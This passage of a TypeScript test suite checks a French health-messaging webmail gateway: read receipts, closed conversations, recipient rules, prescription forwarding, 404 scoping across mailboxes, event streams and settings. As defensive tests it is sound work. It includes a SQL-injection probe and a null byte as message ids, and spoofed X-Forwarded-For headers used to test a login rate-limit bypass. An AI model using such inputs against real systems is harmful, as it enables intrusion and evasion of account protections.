    await send({ to: JEANNE, subject, text: 'Le message lui-même.', headers: { 'Disposition-Notification-To': third } });
    const summary = await listed(jeanne, subject);
    const before = folderRows(third).length;
    const first = await jeanne.get(`/api/messages/${summary.id}`);
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({ seen: true, receipt: 'refused' });
    expect(first.body.text.trim()).toBe('Le message lui-même.');
    expect(folderRows(third)).toHaveLength(before);
    expect(auditRows('receipt.sent', JEANNE).some((r) => r.target === third)).toBe(false);
    // Opened again, it is still not said to have been sent.
    const second = await jeanne.get(`/api/messages/${summary.id}`);
    expect(second.body.receipt).toBe('refused');
    expect(folderRows(third)).toHaveLength(before);
  });

  it('a message without the header sends none: receipt "not-requested"', async () => {
    await send({ to: JEANNE, subject: 'Sans accusé' });
    const summary = await listed(jeanne, 'Sans accusé');
    expect((await jeanne.get(`/api/messages/${summary.id}`)).body.receipt).toBe('not-requested');
  });

  it('a professional reading in the webmail sends none', async () => {
    await send({ to: DOCTOR, subject: 'Avis entre confrères', headers: { 'Disposition-Notification-To': COLLEAGUE } }, COLLEAGUE);
    const doctor = await WebClient.login(port, DOCTOR, PASSWORD);
    const summary = await listed(doctor, 'Avis entre confrères');
    const original = folderRows(DOCTOR).find((r) => r.id === summary.id)!.message_id!;
    const answer = await doctor.get(`/api/messages/${summary.id}`);
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ seen: true, receipt: 'not-requested', conversationId: null });
    expect(mdnsTo(COLLEAGUE, original)).toHaveLength(0);
  });
});

// ---------------------------------------------------------------------------------------------

describe('the reply verdict and closed conversations', () => {
  it('allows replying to a doctor, delivered with In-Reply-To and References of the original', async () => {
    await send({ to: JEANNE, subject: 'Suivi tension', references: '<earlier-1@hopital.mssante.fr>' });
    const summary = await listed(jeanne, 'Suivi tension');
    const view = (await jeanne.get(`/api/messages/${summary.id}`)).body;
    expect(view.reply).toEqual({ allowed: true });
    const sent = await jeanne.post('/api/messages', { to: DOCTOR, subject: 'Re: Suivi tension', text: 'Ma tension est de 12/8.', inReplyTo: summary.id });
    expect(sent.status).toBe(201);
    expect(sent.body).toEqual({ messageId: expect.stringMatching(/^<.+@.+>$/), recipients: [DOCTOR] });
    const delivered = folderRows(DOCTOR).find((r) => r.subject === 'Re: Suivi tension');
    expect(delivered).toBeDefined();
    const { mail } = await parsed(delivered!);
    expect(mail.messageId).toBe(sent.body.messageId);
    expect(mail.inReplyTo).toBe(view.messageId);
    expect(mail.references).toEqual(['<earlier-1@hopital.mssante.fr>', view.messageId]);
    expect(mail.from?.value[0]?.address).toBe(JEANNE);
    expect(mail.text?.trim()).toBe('Ma tension est de 12/8.');
    // The reply is in the same conversation, in the citizen's Sent.
    expect((await listed(jeanne, 'Re: Suivi tension', 'Sent')).conversationId).toBe(summary.conversationId);
    // …and in her own history.
    const history = (await jeanne.get('/api/activity')).body.entries as Array<{ action: string; target: string; label: string }>;
    expect(history.find((e) => e.action === 'message.send' && e.target === DOCTOR)?.label).toMatch(/^Message envoyé à /);
  });

  it('says beforehand that a conversation the doctor closed (X-MSS-MES: FIN) takes no reply, without writing a refusal', async () => {
    await send({ to: JEANNE, subject: 'Consultation du lundi' });
    const opening = await listed(jeanne, 'Consultation du lundi');
    const messageId = (await jeanne.get(`/api/messages/${opening.id}`)).body.messageId;
    await send({ to: JEANNE, subject: 'Re: Consultation du lundi', inReplyTo: messageId, references: messageId, headers: { 'X-MSS-MES': 'FIN' } });
    const closing = await listed(jeanne, 'Re: Consultation du lundi');
    expect(closing.conversationId).toBe(opening.conversationId);

    const refusals = auditCount('message.refuse');
    for (const id of [opening.id, closing.id]) {
      const view = (await jeanne.get(`/api/messages/${id}`)).body;
      expect(view.reply).toEqual({ allowed: false, code: 'CONVERSATION_CLOSED', message: expect.any(String) });
    }
    expect(auditCount('message.refuse')).toBe(refusals);

    const reply = await jeanne.post('/api/messages', { to: DOCTOR, subject: 'Re: Consultation du lundi', text: 'Une dernière question.', inReplyTo: opening.id });
    expect(reply.status).toBe(403);
    expect(errorCode(reply)).toBe('CONVERSATION_CLOSED');
    expect(folderRows(DOCTOR).some((r) => r.subject === 'Re: Consultation du lundi')).toBe(false);
    // A new message to a doctor who wrote before is still allowed (rule 5).
    const fresh = await jeanne.post('/api/messages', { to: DOCTOR, subject: 'Nouvelle question', text: 'Bonjour docteur.' });
    expect(fresh.status).toBe(201);
  });

  it('a subject of exactly [FIN] closes every conversation of that doctor with the citizen', async () => {
    await send({ to: PAUL, subject: 'Bilan annuel' });
    const summary = await listed(paul, 'Bilan annuel');
    expect((await paul.get(`/api/messages/${summary.id}`)).body.reply).toEqual({ allowed: true });
    await send({ to: PAUL, subject: '[FIN]' });
    expect((await paul.get(`/api/messages/${summary.id}`)).body.reply).toMatchObject({ allowed: false, code: 'CONVERSATION_CLOSED' });
    const reply = await paul.post('/api/messages', { to: DOCTOR, subject: 'Re: Bilan annuel', text: 'Merci.', inReplyTo: summary.id });
    expect(reply.status).toBe(403);
    expect(errorCode(reply)).toBe('CONVERSATION_CLOSED');
  });

  it('says there is no one to answer in the citizen’s own sent message', async () => {
    await jeanne.post('/api/messages', { to: DOCTOR, subject: 'Question envoyée', text: 'Bonjour.' });
    const own = await listed(jeanne, 'Question envoyée', 'Sent');
    const view = (await jeanne.get(`/api/messages/${own.id}`)).body;
    expect(view).toMatchObject({ folder: 'Sent', receipt: 'not-requested', reply: { allowed: false } });
  });
});

// ---------------------------------------------------------------------------------------------

describe('sending through the rules', () => {
  it.each([
    ['a citizen to a citizen', PAUL, 403, 'CITIZEN_TO_CITIZEN'],
    ['a citizen to a professional who never wrote', COLLEAGUE, 403, 'NO_PRIOR_CONTACT'],
    ['a pharmacy without a prescription', PHARMACY, 403, 'PHARMACY_NEEDS_PRESCRIPTION'],
    ['a citizen without a mailbox', citizen(INS.unknown), 404, 'MAILBOX_UNAVAILABLE'],
    ['an opposed citizen', citizen(INS.opposed), 404, 'MAILBOX_UNAVAILABLE'],
    ['a closed mailbox', CLOSED, 404, 'MAILBOX_UNAVAILABLE'],
    ['an unknown professional of a local domain', 'personne@hopital.mssante.fr', 404, 'MAILBOX_UNAVAILABLE'],
    ['an invalid INS', citizen('184127645108947'), 400, 'INVALID_INS'],
  ])('refuses %s (%s) with %i %s and delivers nothing', async (_label, to, status, code) => {
    const subject = `Refus ${code} ${to}`;
    const answer = await jeanne.post('/api/messages', { to, subject, text: 'Bonjour.' });
    expect(answer.status).toBe(status);
    expect(answer.body.error).toEqual({ code, message: expect.any(String) });
    expect(folderRows(JEANNE, 'Sent').some((r) => r.subject === subject)).toBe(false);
  });

  it('refuses the whole message when one recipient of a list is refused', async () => {
    const answer = await jeanne.post('/api/messages', { to: [DOCTOR, PAUL], subject: 'Deux destinataires', text: 'Bonjour.' });
    expect(answer.status).toBe(403);
    expect(folderRows(DOCTOR).some((r) => r.subject === 'Deux destinataires')).toBe(false);
  });

  it('refuses an empty message or one without a recipient with 400', async () => {
    for (const body of [
      { to: DOCTOR, subject: 'Vide', text: '' },
      { to: DOCTOR, subject: 'Blanc', text: '  \n ' },
      { subject: 'Sans destinataire', text: 'Bonjour.' },
      { to: [], text: 'Bonjour.' },
      { to: DOCTOR, text: 'Bonjour.', inReplyTo: 'abc' },
      'pas un objet',
    ]) {
      const answer = await jeanne.post('/api/messages', body);
      expect(answer.status, JSON.stringify(body)).toBe(400);
    }
  });

  it('answers 404 for inReplyTo of another mailbox’s message, or of none', async () => {
    await send({ to: PAUL, subject: 'Pour Paul seulement' });
    const paulsOwn = await listed(paul, 'Pour Paul seulement');
    for (const id of [paulsOwn.id, 99_999_999]) {
      const answer = await jeanne.post('/api/messages', { to: DOCTOR, subject: 'Re: détourné', text: 'Bonjour.', inReplyTo: id });
      expect(answer.status).toBe(404);
      expect(errorCode(answer)).toBe('NOT_FOUND');
    }
  });

  it('sends a prescription of the citizen’s record to a pharmacy, with its CDA attached', async () => {
    await send({ to: JEANNE, subject: 'Votre ordonnance', attachments: [{ filename: 'IHE_XDM.ZIP', content: fixture('presc-n1.zip') }] });
    const id = await prescriptionId(jeanne, JEANNE);
    const answer = await jeanne.post('/api/messages', { to: PHARMACY, subject: 'Mon ordonnance', text: 'Bonjour, pouvez-vous préparer ceci ?', recordDocumentIds: [id] });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    expect(answer.body.recipients).toEqual([PHARMACY]);
    const delivered = folderRows(PHARMACY).find((r) => r.subject === 'Mon ordonnance');
    expect(delivered).toBeDefined();
    const { mail } = await parsed(delivered!);
    const xml = mail.attachments.find((a) => /xml/.test(a.contentType));
    expect(xml).toBeDefined();
    expect(xml!.content.toString('utf8')).toMatch(/<ClinicalDocument[\s>]/);
    expect(xml!.content.toString('utf8')).toContain(INS.jeanne);
    expect(xml!.content.toString('utf8')).toContain('57833-6');
    expect(mail.attachments.some((a) => a.contentType === 'application/pdf' && a.content.subarray(0, 5).toString() === '%PDF-')).toBe(true);
  });

  it('sends a scan the citizen filed in "Ordonnances et soins" to a pharmacy as the PDF it is, not as a CDA', async () => {
    const scan = buildPdf({ lines: ['Ordonnance scannée', 'Amoxicilline 1 g'] });
    await send({ to: JEANNE, subject: 'Votre ordonnance papier', attachments: [{ filename: 'ordonnance-scannee.pdf', content: scan }] });
    const message = await listed(jeanne, 'Votre ordonnance papier');
    const filed = await jeanne.post(`/api/messages/${message.id}/attachments/0/file`, { category: 'ORDONNANCES_SOINS' });
    expect(filed.status, `the record route (another engineer's) answered ${JSON.stringify(filed.body)}`).toBe(201);
    const id = filed.body.document.id as number;
    const answer = await jeanne.post('/api/messages', { to: PHARMACY, subject: 'Mon ordonnance scannée', text: 'Bonjour.', recordDocumentIds: [id] });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    const delivered = folderRows(PHARMACY).find((r) => r.subject === 'Mon ordonnance scannée');
    const { mail } = await parsed(delivered!);
    expect(mail.attachments.map((a) => [a.filename, a.contentType])).toEqual([['ordonnance-scannee.pdf', 'application/pdf']]);
    expect(mail.attachments[0]!.content.equals(scan)).toBe(true);
  });
});

/** The id of the current prescription filed in the citizen's record: by the API when it has the route, else the database. */
async function prescriptionId(client: WebClient, address: string): Promise<number> {
  const answer = await client.get<{ documents?: Array<{ id: number; category: string; status: string }> }>('/api/record/documents?category=ORDONNANCES_SOINS');
  if (answer.status === 200 && answer.body.documents?.length) {
    const current = answer.body.documents.find((d) => d.status === 'current');
    if (current) return current.id;
  }
  const db = world.db();
  try {
    const id = db.prepare("SELECT id FROM record_documents WHERE citizen = ? AND category = 'ORDONNANCES_SOINS' AND status = 'current' ORDER BY id DESC").pluck().get(address) as number | undefined;
    if (id === undefined) throw new Error(`no prescription filed for ${address}`);
    return id;
  } finally {
    db.close();
  }
}

// ---------------------------------------------------------------------------------------------

describe('scoping: an id of another mailbox is a 404, exactly as one that does not exist', () => {
  let unread: Summary;
  let range: number[];

  beforeAll(async () => {
    await send({ to: JEANNE, subject: 'Pour Jeanne seulement', headers: { 'Disposition-Notification-To': DOCTOR }, attachments: [{ filename: 'cda.xml', content: fixture('bare-cda.xml') }] });
    unread = await listed(jeanne, 'Pour Jeanne seulement');
    const ids = [...owners()].filter(([, owner]) => owner === JEANNE).map(([id]) => id);
    const low = Math.min(...ids);
    const high = Math.max(...ids);
    range = Array.from({ length: high - low + 11 }, (_, i) => low - 5 + i).filter((id) => id > 0);
  });

  it("gives another citizen nothing of any of the citizen's message ids", async () => {
    const owner = owners();
    const foreign = range.filter((id) => owner.get(id) !== PAUL);
    expect(foreign.filter((id) => owner.get(id) === JEANNE).length).toBeGreaterThan(10);
    const nothing = (await paul.get('/api/messages/99999999')).body;
    for (const id of foreign) {
      const answers = [
        await paul.get(`/api/messages/${id}`),
        await paul.get(`/api/messages/${id}/attachments/0`),
        await paul.post(`/api/messages/${id}/attachments/0/file`, {}),
        await paul.post('/api/messages', { to: DOCTOR, subject: 'Re: vol', text: 'Bonjour.', inReplyTo: id }),
      ];
      for (const answer of answers) {
        expect(answer.status, `id ${id} (${owner.get(id) ?? 'none'})`).toBe(404);
        expect(errorCode(answer)).toBe('NOT_FOUND');
      }
      expect(answers[0]!.body).toEqual(nothing);
    }
    // Looking did not open it for her: still unread, no receipt sent.
    expect((await listed(jeanne, 'Pour Jeanne seulement')).seen).toBe(false);
    expect(auditRows('receipt.sent', JEANNE).some((r) => r.detail === String(unread.id))).toBe(false);
    expect(folderRows(DOCTOR).some((r) => r.subject === 'Re: vol')).toBe(false);
  });

  it('answers an id that is no id, or out of range, with the same 404', async () => {
    const nothing = (await jeanne.get('/api/messages/99999999')).body;
    for (const id of ['abc', '-1', '1e3', '0x10', '1.5', '99999999999999999999', '%00', '1%20OR%201=1']) {
      const answer = await jeanne.get(`/api/messages/${id}`);
      expect(answer.status, id).toBe(404);
      expect(answer.body, id).toEqual(nothing);
      expect((await jeanne.get(`/api/messages/${unread.id}/attachments/${id}`)).status, id).toBe(404);
    }
    expect((await jeanne.get(`/api/messages/${unread.id}/attachments/1`)).status).toBe(404); // it has one, n° 0
  });

  it("refuses another citizen's record document ids with 404", async () => {
    const db = world.db();
    const documents = db.prepare('SELECT id FROM record_documents WHERE citizen = ?').pluck().all(JEANNE) as number[];
    db.close();
    expect(documents.length).toBeGreaterThan(0);
    for (const id of documents) {
      const answer = await paul.post('/api/messages', { to: PHARMACY, subject: 'Ordonnance volée', text: 'Bonjour.', recordDocumentIds: [id] });
      expect(answer.status).toBe(404);
      expect(errorCode(answer)).toBe('NOT_FOUND');
    }
    expect(folderRows(PHARMACY).some((r) => r.subject === 'Ordonnance volée')).toBe(false);
  });

  it("gives a professional nothing of a citizen's message ids, even the doctor who wrote them", async () => {
    const doctor = await WebClient.login(port, DOCTOR, PASSWORD);
    const owner = owners();
    for (const id of range.filter((i) => owner.get(i) !== DOCTOR)) {
      const read = await doctor.get(`/api/messages/${id}`);
      expect(read.status, `id ${id}`).toBe(404);
      expect((await doctor.get(`/api/messages/${id}/attachments/0`)).status).toBe(404);
    }
    expect((await listed(jeanne, 'Pour Jeanne seulement')).seen).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------

interface Stream {
  status: number;
  /** everything received so far */
  text(): string;
  /** resolves when the server ends the stream (or it is closed here) */
  ended: Promise<void>;
  close(): Promise<void>;
}

/** GET /api/events read as a browser's EventSource would, with the session of `client` */
async function events(client: WebClient): Promise<Stream> {
  const abort = new AbortController();
  const response = await fetch(`http://127.0.0.1:${port}/api/events`, {
    headers: { cookie: `mssgw_session=${client.cookie('mssgw_session')}` },
    signal: abort.signal,
  });
  let text = '';
  let ended: Promise<void> = Promise.resolve();
  if (response.status === 200) {
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    ended = (async () => {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return;
        text += decoder.decode(value, { stream: true });
      }
    })().catch(() => undefined);
    await waitFor('the stream to open', () => text.includes('retry:'), { timeoutMs: 10_000 });
  } else {
    text = await response.text();
  }
  return {
    status: response.status,
    text: () => text,
    ended,
    async close() {
      abort.abort();
      await ended;
    },
  };
}

describe('server-sent events', () => {
  it('tells the open page that INBOX changed when a new message arrives', async () => {
    const client = await WebClient.login(port, JEANNE, PASSWORD);
    const stream = await events(client);
    try {
      expect(stream.status).toBe(200);
      await send({ to: JEANNE, subject: 'Un nouveau message' });
      await waitFor('event: changed for INBOX', () => /event: changed\ndata: \{"folder":"INBOX"\}\n\n/.test(stream.text()), {
        timeoutMs: 10_000,
        lastSeen: () => stream.text(),
      });
      // Nothing of the message travels on the stream.
      expect(stream.text()).not.toContain('Un nouveau message');
      expect(stream.text()).not.toContain(DOCTOR);
    } finally {
      await stream.close();
    }
  });

  it('ends an open stream once its session has ended, and tells it nothing more', async () => {
    const client = await WebClient.login(port, JEANNE, PASSWORD);
    const stream = await events(client);
    try {
      expect((await client.delete('/api/session')).status).toBe(204);
      const before = stream.text();
      await send({ to: JEANNE, subject: 'Après la déconnexion' });
      let over = false;
      void stream.ended.then(() => (over = true));
      await waitFor('the server to end the stream of the ended session', () => over, { timeoutMs: 10_000 });
      expect(stream.text()).toBe(before);
    } finally {
      await stream.close();
    }
  });

  it('holds at most 10 streams for one mailbox, and frees a place when one closes', async () => {
    const client = await WebClient.login(port, PAUL, PASSWORD);
    const streams: Stream[] = [];
    try {
      for (let i = 0; i < 10; i++) streams.push(await events(client));
      expect(streams.map((s) => s.status)).toEqual(Array(10).fill(200));
      const extra = await events(client);
      expect(extra.status).toBe(429);
      expect(JSON.parse(extra.text()).error.code).toBe('TOO_MANY_STREAMS');
      // Another mailbox is not counted with this one.
      const other = await events(jeanne);
      expect(other.status).toBe(200);
      await other.close();
      await streams.pop()!.close();
      const again = await waitFor('a place to be freed', async () => {
        const s = await events(client);
        return s.status === 200 ? s : undefined;
      }, { timeoutMs: 10_000 });
      streams.push(again);
    } finally {
      await Promise.all(streams.map((s) => s.close()));
    }
  });

  it('answers 401 without a session', async () => {
    const response = await fetch(`http://127.0.0.1:${port}/api/events`);
    expect(response.status).toBe(401);
    expect(((await response.json()) as { error: { code: string } }).error.code).toBe('NOT_LOGGED_IN');
  });
});

// ---------------------------------------------------------------------------------------------

describe('settings', () => {
  it('reads, changes and removes the personal address, each change written to the activity history', async () => {
    const client = await WebClient.login(port, JEANNE, PASSWORD);
    expect((await client.get('/api/settings')).body).toEqual({ personalEmail: 'jeanne@example.org' });
    const changes = auditRows('settings.personal-email', JEANNE).length;

    const set = await client.put('/api/settings', { personalEmail: '  Jeanne.Martin@Example.ORG ' });
    expect(set.status).toBe(200);
    expect(set.body).toEqual({ personalEmail: 'jeanne.martin@example.org' });
    expect((await client.get('/api/settings')).body).toEqual({ personalEmail: 'jeanne.martin@example.org' });

    for (const wrong of ['pas-une-adresse', 'a@', '@example.org', 'a b@example.org', 42, 'x'.repeat(250) + '@example.org']) {
      const answer = await client.put('/api/settings', { personalEmail: wrong });
      expect(answer.status, String(wrong)).toBe(400);
      expect(errorCode(answer)).toBe('BAD_REQUEST');
    }
    expect((await client.put('/api/settings', {})).status).toBe(400);
    expect((await client.get('/api/settings')).body).toEqual({ personalEmail: 'jeanne.martin@example.org' });

    const removed = await client.put('/api/settings', { personalEmail: null });
    expect(removed.body).toEqual({ personalEmail: null });
    expect((await client.get('/api/settings')).body).toEqual({ personalEmail: null });
    const db = world.db();
    expect(db.prepare('SELECT personal_email FROM mailboxes WHERE address = ?').pluck().get(JEANNE)).toBeNull();
    db.close();

    const lines = auditRows('settings.personal-email', JEANNE).slice(changes);
    expect(lines.map((l) => l.outcome)).toEqual(['set', 'removed']);
    expect(lines.every((l) => l.actor === JEANNE)).toBe(true);
    // Not given back through the list of settings of anyone else.
    expect((await paul.get('/api/settings')).body).toEqual({ personalEmail: null });
  });
});

// ---------------------------------------------------------------------------------------------

describe('a gateway that trusts no proxy (the default)', () => {
  // A second server: no web.trustProxy, and few logins a minute from one client.
  let plain: World;
  let plainPort: number;
  beforeAll(async () => {
    plain = await startWorld({ web: { loginRatePerMinute: 4 } });
    plainPort = plain.server.ports.http;
  });
  afterAll(async () => {
    await plain?.stop();
  });

  it('believes no X-Forwarded-Proto: the cookie is not Secure over plain HTTP', async () => {
    const client = WebClient.forPort(plainPort, { 'x-forwarded-proto': 'https' });
    expect((await client.login(JEANNE, PASSWORD)).status).toBe(200);
    expect(attributes(sessionCookieLine(client))).not.toContain('secure');
  });

  it('believes no X-Forwarded-For: rotating it does not get round the login rate limit, answered 429 TOO_MANY_ATTEMPTS', async () => {
    // One login was made by the test above; the limit is 4 a minute from this client.
    const statuses: number[] = [];
    let limited: WebAnswer | undefined;
    for (let i = 0; i < 5 && !limited; i++) {
      const answer = await WebClient.forPort(plainPort, { 'x-forwarded-for': `203.0.113.${i + 1}`, 'x-forwarded-proto': 'https' }).login(PAUL, PASSWORD);
      statuses.push(answer.status);
      if (answer.status === 429) limited = answer;
    }
    expect(statuses).toEqual([200, 200, 200, 429]);
    expect(errorCode(limited!)).toBe('TOO_MANY_ATTEMPTS');
    const retryAfter = Number(limited!.headers.get('retry-after'));
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(60);
  });
});
